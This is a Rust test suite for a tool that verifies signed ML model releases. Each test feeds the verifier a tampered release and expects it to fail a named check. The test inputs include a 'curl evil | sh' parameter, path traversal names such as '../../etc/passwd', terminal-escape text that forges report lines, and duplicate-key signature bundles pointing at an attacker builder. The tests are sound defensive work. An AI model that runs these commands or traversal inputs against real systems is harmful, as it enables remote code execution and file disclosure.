//! Attacks on `verify model`, each played against a crafted release (see
//! common/crafted.rs: every signature verifies) or a hostile file system,
//! each expected to fail with its own named check and exit code.

use crate::common::crafted::{Crafted, Doc};
use crate::common::{cli, code, testdata};
use serde_json::{json, Value};

fn text(o: &std::process::Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

/// The JSON verdict's first failing check (name), or the failure message.
fn failing_check(o: &std::process::Output) -> String {
    let v: Value = serde_json::from_slice(&o.stdout).unwrap_or(Value::Null);
    v["checks"]
        .as_array()
        .into_iter()
        .flatten()
        .find(|c| c["status"] == "fail")
        .and_then(|c| c["name"].as_str())
        .map(str::to_string)
        .unwrap_or_else(|| format!("(none) {}", text(o)))
}

fn set_metric(bom: &mut Value, kind: &str, slice: &str, value: &str) {
    let metrics = bom["metadata"]["component"]["modelCard"]["quantitativeAnalysis"]
        ["performanceMetrics"]
        .as_array_mut()
        .unwrap();
    for m in metrics {
        if m["type"] == kind && m["slice"] == slice {
            m["value"] = json!(value);
        }
    }
}

#[test]
fn the_crafted_release_verifies_before_it_is_tampered_with() {
    let c = Crafted::new();
    let o = c.verify(&[]);
    assert_eq!(code(&o), 0, "{}", text(&o));
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(out.starts_with("VERIFIED release"), "{out}");
    // The passport shows how many rows each split had.
    assert!(out.contains("test 900 rows"), "{out}");
}

#[test]
fn nan_and_infinite_metrics_fail_every_rule_that_names_them() {
    for value in ["NaN", "nan", "inf", "-inf"] {
        let c = Crafted::new();
        c.edit_bom(|bom| set_metric(bom, "accuracy", "test", value));
        for rule in ["min = 0.5", "max = 0.99", "min = -1e308\nmax = 1e308"] {
            let policy = c.policy(&format!("[[metrics]]\nname = \"accuracy\"\n{rule}\n"));
            let o = c.verify(&["--policy", &policy, "--format", "json"]);
            assert_eq!(code(&o), 6, "{value} {rule}: {}", text(&o));
            assert_eq!(failing_check(&o), "policy.metric");
        }
    }
}

#[test]
fn non_finite_policy_bounds_are_refused_at_load() {
    let c = Crafted::new();
    for rule in ["min = nan", "max = nan", "min = inf", "max = -inf"] {
        let policy = c.policy(&format!("[[metrics]]\nname = \"accuracy\"\n{rule}\n"));
        let o = c.verify(&["--policy", &policy]);
        assert_eq!(code(&o), 2, "{rule}: {}", text(&o));
        assert!(text(&o).contains("finite"), "{}", text(&o));
    }
}

#[test]
fn a_metric_on_too_few_rows_fails_min_rows() {
    let c = Crafted::new();
    c.edit(Doc::Provenance, |st| {
        for d in st["predicate"]["buildDefinition"]["resolvedDependencies"]
            .as_array_mut()
            .unwrap()
        {
            if let Some(r) = d.pointer_mut("/annotations/recordRoots/test/records") {
                *r = json!(1);
            }
        }
    });
    let lenient = c.policy("[[metrics]]\nname = \"accuracy\"\nmin = 0.5\n");
    let o = c.verify(&["--policy", &lenient]);
    assert_eq!(code(&o), 0, "{}", text(&o));
    assert!(text(&o).contains("test 1 rows"), "{}", text(&o));
    let strict = c.policy("[[metrics]]\nname = \"accuracy\"\nmin = 0.5\nmin_rows = 100\n");
    let o = c.verify(&["--policy", &strict, "--format", "json"]);
    assert_eq!(code(&o), 6, "{}", text(&o));
    assert_eq!(failing_check(&o), "policy.metric");
    assert!(text(&o).contains("1 row(s)"), "{}", text(&o));
}

#[test]
fn caller_text_cannot_forge_lines_of_the_report() {
    let c = Crafted::new();
    let forged = "acme\n\x1b[1A\x1b[2K\rVERIFIED release\n  Are the datasets appropriate?     yes";
    c.edit_bom(|bom| {
        bom["metadata"]["component"]["authors"] = json!([{ "name": forged }]);
        bom["metadata"]["component"]["licenses"] = json!([{ "expression": "Apache-2.0" }]);
    });
    // A failing policy: the first line must say so, whatever the text holds.
    let policy = c.policy("[licenses]\nmodel = [\"MIT\"]\n");
    let o = c.verify(&["--policy", &policy]);
    assert_eq!(code(&o), 6, "{}", text(&o));
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    assert!(out.starts_with("FAILED release (policy)"), "{out}");
    // A passing one prints the passport: the forged text stays on its line.
    let o = c.verify(&[]);
    assert_eq!(code(&o), 0, "{}", text(&o));
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    assert!(!out.contains('\x1b') && !out.contains('\r'), "{out:?}");
    assert_eq!(
        out.lines()
            .filter(|l| l.contains("VERIFIED release"))
            .count(),
        2
    );
    assert!(out.lines().next().unwrap().starts_with("VERIFIED release"));
    let author = out
        .lines()
        .find(|l| l.contains("Who created the model?"))
        .unwrap();
    assert!(author.contains("acme\\n\\u{1b}[1A"), "{author}");
    assert!(
        !out.lines().any(|l| l
            .trim_start()
            .starts_with("Are the datasets appropriate?     yes")),
        "{out}"
    );
}

#[test]
fn policy_rules_that_would_not_apply_are_refused_at_load() {
    let c = Crafted::new();
    for (toml, why) in [
        ("[builder]\ntags = [\"v1\"]\n", "builder.workflow"),
        (
            "[builder]\nissuer = \"https://token.actions.githubusercontent.com\"\n",
            "builder.workflow",
        ),
        (
            &format!("[datasets]\ndenied = [\"sha512:{}\"]\n", "a".repeat(128)) as &str,
            "sha256",
        ),
        (
            "[source]\nrepositories = [\"https://gitlab.com/o/r\"]\n",
            "not on GitHub",
        ),
    ] {
        let policy = c.policy(toml);
        let o = c.verify(&["--policy", &policy]);
        assert_eq!(code(&o), 2, "{toml}: {}", text(&o));
        assert!(text(&o).contains(why), "{toml}: {}", text(&o));
    }
}

#[test]
fn denied_versions_catch_pre_releases_every_component_and_missing_ones() {
    let deny = |versions: &str, extra: &str| {
        format!("[[denied_versions]]\nname = \"candle-core\"\nversions = \"{versions}\"\n{extra}")
    };
    let c = Crafted::new();
    c.edit_bom(|bom| {
        for comp in bom["components"].as_array_mut().unwrap() {
            if comp["name"] == "candle-core" {
                comp["version"] = json!("0.11.2-rc.1");
            }
        }
    });
    for range in [">=0.11.0, <0.12", "<0.11.2", "=0.11.2", "^0.11"] {
        let o = c.verify(&["--policy", &c.policy(&deny(range, "")), "--format", "json"]);
        assert_eq!(code(&o), 6, "{range}: {}", text(&o));
        assert_eq!(failing_check(&o), "policy.denied-version");
    }
    let o = c.verify(&["--policy", &c.policy(&deny("<0.11.0", ""))]);
    assert_eq!(code(&o), 0, "{}", text(&o));

    // A second component of the same name is checked too.
    let c = Crafted::new();
    c.edit_bom(|bom| {
        let comps = bom["components"].as_array_mut().unwrap();
        comps.push(json!({"type": "framework", "name": "candle-core", "version": "0.9.1"}));
    });
    let o = c.verify(&[
        "--policy",
        &c.policy(&deny(">=0.9.0, <0.9.2", "")),
        "--format",
        "json",
    ]);
    assert_eq!(code(&o), 6, "{}", text(&o));
    assert_eq!(failing_check(&o), "policy.denied-version");

    // A component the ML-BOM does not list: n/a, or a failure when required.
    let c = Crafted::new();
    let absent = "[[denied_versions]]\nname = \"torch\"\nversions = \"<2.6\"\n";
    let o = c.verify(&["--policy", &c.policy(absent), "--format", "json"]);
    assert_eq!(code(&o), 0, "{}", text(&o));
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    let rule = v["checks"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["name"] == "policy.denied-version")
        .unwrap();
    assert_eq!(rule["status"], "not-applicable", "{rule}");
    let o = c.verify(&[
        "--policy",
        &c.policy(&format!("{absent}require = true\n")),
        "--format",
        "json",
    ]);
    assert_eq!(code(&o), 6, "{}", text(&o));
    assert_eq!(failing_check(&o), "policy.denied-version");
}

#[cfg(unix)]
#[test]
fn special_files_in_a_model_directory_fail_by_name() {
    let c = Crafted::new();
    let fifo = c.root.join("model/tokenizer.json");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(made.success());
    let o = c.verify(&[]);
    assert_eq!(code(&o), 5, "{}", text(&o));
    assert!(
        text(&o).contains("tokenizer.json is not a regular file"),
        "{}",
        text(&o)
    );
    // A socket, too.
    std::fs::remove_file(&fifo).unwrap();
    let _socket = std::os::unix::net::UnixListener::bind(&fifo).unwrap();
    let o = c.verify(&[]);
    assert_eq!(code(&o), 5, "{}", text(&o));
    assert!(text(&o).contains("a socket"), "{}", text(&o));
}

#[cfg(unix)]
#[test]
fn evidence_that_is_not_a_regular_file_is_refused_not_read() {
    let c = Crafted::new();
    std::fs::remove_file(c.root.join("model.sig")).unwrap();
    std::os::unix::fs::symlink("/dev/zero", c.root.join("model.sig")).unwrap();
    let o = c.verify(&[]);
    assert_eq!(code(&o), 2, "{}", text(&o));
    assert!(text(&o).contains("is a symbolic link"), "{}", text(&o));
    // A FIFO as the policy file would block a reader forever.
    let policy = c.root.parent().unwrap().join("fifo.toml");
    assert!(std::process::Command::new("mkfifo")
        .arg(&policy)
        .status()
        .unwrap()
        .success());
    let o = c.verify(&["--policy", &policy.display().to_string()]);
    assert_eq!(code(&o), 2, "{}", text(&o));
    assert!(text(&o).contains("not a regular file"), "{}", text(&o));
}

#[test]
fn what_the_signed_documents_reference_must_be_at_hand() {
    // Each downgrade: the check it must fail.
    type Tamper<'a> = &'a dyn Fn(&std::path::Path);
    let cases: [(&str, Tamper, &str); 5] = [
        (
            "intoto/ deleted",
            &|r| std::fs::remove_dir_all(r.join("intoto")).unwrap(),
            "release.intoto",
        ),
        (
            "intoto/ replaced by a file",
            &|r| {
                std::fs::remove_dir_all(r.join("intoto")).unwrap();
                std::fs::write(r.join("intoto"), "{}").unwrap();
            },
            "intoto.files",
        ),
        (
            "aibom.cdx.json deleted",
            &|r| std::fs::remove_file(r.join("aibom.cdx.json")).unwrap(),
            "release.byproducts",
        ),
        (
            "metrics.json deleted",
            &|r| std::fs::remove_file(r.join("metrics.json")).unwrap(),
            "release.byproducts",
        ),
        (
            "training.log tampered",
            &|r| std::fs::write(r.join("training.log"), "all good\n").unwrap(),
            "release.byproducts",
        ),
    ];
    for (what, tamper, check) in cases {
        let c = Crafted::new();
        tamper(&c.root);
        let o = c.verify(&["--format", "json"]);
        assert_ne!(code(&o), 0, "{what}: {}", text(&o));
        assert_eq!(failing_check(&o), check, "{what}");
    }
    for tampered in [
        "metrics.json",
        "environment.json",
        "dataset-commitment.json",
        "build-record.json",
    ] {
        let c = Crafted::new();
        let path = c.root.join(tampered);
        let mut bytes = std::fs::read(&path).unwrap();
        bytes.push(b'\n');
        std::fs::write(&path, bytes).unwrap();
        let o = c.verify(&["--format", "json"]);
        assert_eq!(code(&o), 5, "{tampered}: {}", text(&o));
        assert_eq!(failing_check(&o), "release.byproducts", "{tampered}");
        assert!(text(&o).contains(tampered), "{}", text(&o));
    }
    // A policy may accept a partial release; what is at hand is still checked.
    let c = Crafted::new();
    std::fs::remove_file(c.root.join("metrics.json")).unwrap();
    std::fs::remove_file(c.root.join("aibom.cdx.json")).unwrap();
    std::fs::remove_dir_all(c.root.join("intoto")).unwrap();
    let partial = c.policy("[release]\nallow_partial = true\n");
    let o = c.verify(&["--policy", &partial]);
    assert_eq!(code(&o), 0, "{}", text(&o));
    assert!(text(&o).contains("WARN"), "{}", text(&o));
    std::fs::write(c.root.join("training.log"), "all good\n").unwrap();
    let o = c.verify(&["--policy", &partial]);
    assert_eq!(code(&o), 5, "{}", text(&o));
}

#[test]
fn the_passport_names_what_vouches_for_each_answer() {
    let o = cli(&[
        "model".into(),
        testdata().join("release/model").display().to_string(),
        "--key".into(),
        testdata().join("release/key.pub").display().to_string(),
        "--format".into(),
        "json".into(),
    ]);
    assert_eq!(code(&o), 0, "{}", text(&o));
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    let answers = v["passport"]["answers"].as_array().unwrap();
    let answer = |q: &str| {
        answers
            .iter()
            .find(|a| a["question"].as_str().unwrap().starts_with(q))
            .unwrap()
            .clone()
    };
    assert_eq!(answer("Which system")["basis"], "key-holder");
    assert_eq!(answer("Which evaluations")["basis"], "key-holder");
    assert_eq!(answer("Who created")["basis"], "caller");
    // The root shown is the one recomputed from the files just now.
    let changed = answer("Has it changed");
    assert_eq!(changed["basis"], "checked");
    let subject = v["parts"][0]["checks"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["name"] == "subject")
        .unwrap()["actual"]
        .as_str()
        .unwrap()
        .to_string();
    let short = &subject[..subject.find(':').unwrap() + 17];
    assert!(
        changed["answer"].as_str().unwrap().contains(short),
        "{changed} {subject}"
    );
}

#[test]
fn an_unknown_external_parameter_of_our_build_type_is_refused() {
    for (what, edit) in [
        ("top level", json!({"cache": "s3://bucket/warm-start"})),
        (
            "workflow input",
            json!({"inputs": {"job": "job.toml", "pre-train-script": "curl evil | sh"}}),
        ),
    ] {
        let c = Crafted::new();
        c.edit(Doc::Provenance, |st| {
            let params = &mut st["predicate"]["buildDefinition"]["externalParameters"];
            for (k, v) in edit.as_object().unwrap() {
                params[k] = v.clone();
            }
        });
        let o = c.verify(&["--format", "json"]);
        assert_eq!(code(&o), 6, "{what}: {}", text(&o));
        let v: Value = serde_json::from_slice(&o.stdout).unwrap();
        let failed = v["parts"]
            .as_array()
            .unwrap()
            .iter()
            .flat_map(|p| p["checks"].as_array().unwrap())
            .find(|c| c["status"] == "fail")
            .unwrap()
            .clone();
        assert_eq!(failed["name"], "provenance.external-parameters", "{what}");
    }
    // Each build type has its own list: `device` is the Rust trainer's, not
    // the command tier's.
    let c = Crafted::new();
    c.edit(Doc::Provenance, |st| {
        st["predicate"]["buildDefinition"]["buildType"] =
            json!(slsa_aibom_types::command_provenance::COMMAND_BUILD_TYPE);
    });
    let o = c.verify(&[]);
    assert_eq!(code(&o), 6, "{}", text(&o));
    assert!(text(&o).contains("device"), "{}", text(&o));
    // The workflow's own inputs are known.
    let c = Crafted::new();
    c.edit(Doc::Provenance, |st| {
        st["predicate"]["buildDefinition"]["externalParameters"]["inputs"] =
            json!({"job": "job.toml", "train-runs-on": "[\"ubuntu-latest\"]"});
    });
    let o = c.verify(&[]);
    assert_eq!(code(&o), 0, "{}", text(&o));
}

#[test]
fn a_byproduct_name_cannot_leave_the_release_folder() {
    for name in ["../../etc/passwd", "/etc/passwd", "metrics/../../x", ""] {
        let c = Crafted::new();
        c.edit(Doc::Provenance, |st| {
            st["predicate"]["runDetails"]["byproducts"][0]["name"] = json!(name);
        });
        let o = c.verify(&["--format", "json"]);
        assert_eq!(code(&o), 2, "{name:?}: {}", text(&o));
        assert_eq!(failing_check(&o), "release.byproducts", "{name:?}");
    }
}

/// Round 2, item 1: `model.sig` a link to a copy of itself inside `model/`
/// (with an extra JSON key, under a model-like name). The link is refused,
/// and the file inside the model directory is never skipped.
#[cfg(unix)]
#[test]
fn a_signature_linked_into_the_model_directory_hides_nothing() {
    let c = Crafted::new();
    let mut bundle: Value =
        serde_json::from_slice(&std::fs::read(c.root.join("model.sig")).unwrap()).unwrap();
    bundle["x-padding"] = json!("not signed");
    let hidden = c.root.join("model/weights.extra.safetensors");
    std::fs::write(&hidden, serde_json::to_vec(&bundle).unwrap()).unwrap();
    std::fs::remove_file(c.root.join("model.sig")).unwrap();
    std::os::unix::fs::symlink(&hidden, c.root.join("model.sig")).unwrap();
    let o = c.verify(&[]);
    assert_ne!(code(&o), 0, "{}", text(&o));
    assert!(!text(&o).contains("VERIFIED"), "{}", text(&o));
    assert!(
        text(&o).contains("model.sig is a symbolic link"),
        "{}",
        text(&o)
    );
}

/// Round 2, item 2: a bundle with a second, unsigned `dsseEnvelope` (what
/// Python's json and jq would read) or with both contents is refused.
#[test]
fn a_bundle_with_a_repeated_key_or_two_contents_is_refused() {
    let c = Crafted::new();
    let path = c.path(Doc::Provenance);
    let original = std::fs::read_to_string(&path).unwrap();
    let forged = original.replacen(
        "{",
        r#"{"dsseEnvelope":{"payload":"e30=","payloadType":"application/vnd.in-toto+json","signatures":[{"sig":"AAAA"}]},"#,
        1,
    );
    assert!(forged.matches("\"dsseEnvelope\"").count() == 2);
    std::fs::write(&path, &forged).unwrap();
    let o = c.verify(&[]);
    assert_ne!(code(&o), 0, "{}", text(&o));
    assert!(text(&o).contains("duplicate key"), "{}", text(&o));
    // Both a DSSE envelope and a message signature.
    let mut both: Value = serde_json::from_str(&original).unwrap();
    both["messageSignature"] =
        json!({"messageDigest": {"algorithm": "SHA2_256", "digest": "AAAA"}, "signature": "AAAA"});
    std::fs::write(&path, serde_json::to_vec(&both).unwrap()).unwrap();
    let o = c.verify(&[]);
    assert_ne!(code(&o), 0, "{}", text(&o));
    assert!(text(&o).contains("exactly one content"), "{}", text(&o));
}

/// Round 2, item 2: a signed statement whose predicate repeats a key (the
/// provenance's `builder`, read differently by other tools) is refused
/// although its signature verifies.
#[test]
fn a_signed_statement_with_a_repeated_key_is_refused() {
    use base64::Engine as _;
    let c = Crafted::new();
    let st = c.statement(Doc::Provenance);
    let text_st = serde_json::to_string(&st).unwrap();
    let doubled = text_st.replacen(
        "\"runDetails\":{",
        "\"runDetails\":{\"builder\":{\"id\":\"https://attacker.example/builder\"},",
        1,
    );
    assert_ne!(doubled, text_st);
    let signer = crate::common::synthetic::signer();
    let bundle = signer.sign_statement(doubled.as_bytes()).unwrap();
    std::fs::write(c.path(Doc::Provenance), bundle).unwrap();
    let payload: Value =
        serde_json::from_slice(&std::fs::read(c.path(Doc::Provenance)).unwrap()).unwrap();
    let decoded = base64::engine::general_purpose::STANDARD
        .decode(payload["dsseEnvelope"]["payload"].as_str().unwrap())
        .unwrap();
    assert_eq!(
        String::from_utf8(decoded)
            .unwrap()
            .matches("\"builder\"")
            .count(),
        2
    );
    let o = c.verify(&[]);
    assert_ne!(code(&o), 0, "{}", text(&o));
    assert!(text(&o).contains("duplicate key"), "{}", text(&o));
}

/// Round 2, item 8: a model directory nested deeper than the limit is
/// refused by name, at once.
#[test]
fn a_deeply_nested_model_directory_is_refused_by_name() {
    let c = Crafted::new();
    let mut deep = c.root.join("model");
    for _ in 0..200 {
        deep.push("d");
    }
    std::fs::create_dir_all(&deep).unwrap();
    let o = c.verify(&[]);
    assert_ne!(code(&o), 0, "{}", text(&o));
    assert!(
        text(&o).contains("nests deeper than 64 folders"),
        "{}",
        text(&o)
    );
}

/// Round 2, item 12: a zero-width space in an extra file's name is shown
/// escaped, so two names that look alike can be told apart.
#[test]
fn format_characters_in_a_file_name_are_escaped() {
    let c = Crafted::new();
    std::fs::write(c.root.join("model/con\u{200B}fig.json"), b"{}").unwrap();
    let o = c.verify(&[]);
    assert_eq!(code(&o), 5, "{}", text(&o));
    assert!(text(&o).contains("con\\u{200b}fig.json"), "{}", text(&o));
    assert!(!text(&o).contains('\u{200B}'), "{}", text(&o));
}

/// Review item 29.4: runner rules without an exact pin of our builder are a
/// usage error: a source repository alone names no builder, and any other
/// signer (a tenant's own `slsa-aibom/builder.yml`) records any runner.
#[test]
fn runner_rules_need_our_builder_pinned_exactly() {
    let model = testdata().join("release/model").display().to_string();
    for naming in [
        vec!["--source-repo", "tenant/model"],
        vec!["--repo", "tenant/model"],
        vec!["--owner", "tenant"],
        vec!["--certificate-identity-regexp", ".*"],
        vec![
            "--certificate-identity",
            "https://github.com/tenant/x/.github/workflows/builder.yml@refs/heads/main",
        ],
    ] {
        let mut args: Vec<String> = vec!["model".into(), model.clone()];
        args.extend(naming.iter().map(|s| s.to_string()));
        args.push("--deny-self-hosted-training".into());
        let o = cli(&args);
        assert_eq!(code(&o), 2, "{naming:?}: {}", text(&o));
        assert!(
            text(&o).contains("pin our builder exactly with --certificate-identity"),
            "{naming:?}: {}",
            text(&o)
        );
    }
    // Pinned exactly, the rule is accepted (this keyed release then fails
    // for want of its key, a different problem).
    let o = cli(&[
        "model".into(),
        model,
        "--certificate-identity".into(),
        "https://github.com/ORG/slsa-aibom/.github/workflows/builder.yml@refs/tags/v1".into(),
        "--deny-self-hosted-training".into(),
    ]);
    assert_eq!(code(&o), 2, "{}", text(&o));
    assert!(!text(&o).contains("pin our builder"), "{}", text(&o));
}

/// Review item 29.3: a `[lineage]` rule is a requirement. A release that
/// records no base model fails it (it once verified with the rule skipped).
#[test]
fn a_lineage_rule_fails_a_release_without_a_base_model() {
    let c = Crafted::new();
    let policy = c.policy(&format!(
        "[lineage]\nrequire_signature = true\napproved = [\"sha256:{}\"]\n",
        "ab".repeat(32)
    ));
    let o = c.verify(&["--policy", &policy, "--format", "json"]);
    assert_eq!(code(&o), 6, "{}", text(&o));
    assert_eq!(failing_check(&o), "policy.lineage");
    let o = c.verify(&["--policy", &policy]);
    assert!(text(&o).contains("records no base model"), "{}", text(&o));
}
